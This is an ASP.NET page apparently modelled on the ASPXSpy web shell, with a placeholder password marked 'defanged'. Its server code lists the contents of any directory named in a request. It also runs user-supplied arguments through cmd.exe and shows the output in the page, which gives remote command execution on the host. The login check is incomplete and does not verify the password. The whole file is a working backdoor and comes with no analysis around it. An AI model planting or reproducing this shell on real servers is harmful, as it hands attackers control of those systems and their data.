<%@ Page Language="C#" Debug="true" trace="false" validateRequest="false" %>
<%@ import Namespace="System.IO" %>
<%@ import Namespace="System.Diagnostics" %>
<script runat="server">
  public string Password = "00000000000000000000000000000000"; /* defanged */
  protected void Page_Load(object sender, EventArgs e) {
    if (Session["ASPXSpy"] as string != "OK") { LoginPanel.Visible = true; return; }
    if (Request["goaction"] == "change") ListDir(Request["todo"]);
  }
  void ListDir(string path) { string h = "";
    foreach (FileInfo f in new DirectoryInfo(path).GetFiles()) h += "<br>" + f.Name + " " + f.Length;
    FileList.Text = h; }
  protected void Cmd_Click(object sender, EventArgs e) {
    Process p = new Process();
    p.StartInfo.FileName = CmdPath.Text;
    p.StartInfo.Arguments = "/c " + CmdArgs.Text;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    CmdResult.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
  }
</script>
<html><body><form runat="server">
<asp:Panel ID="LoginPanel" runat="server" Visible="false"><asp:TextBox ID="PassText" runat="server" TextMode="Password" /></asp:Panel>
<asp:TextBox ID="CmdPath" runat="server" Text="cmd.exe" /><asp:TextBox ID="CmdArgs" runat="server" /><asp:Button runat="server" Text="Submit" OnClick="Cmd_Click" />
<asp:Label ID="CmdResult" runat="server" /><asp:Label ID="FileList" runat="server" />
</form></body></html>
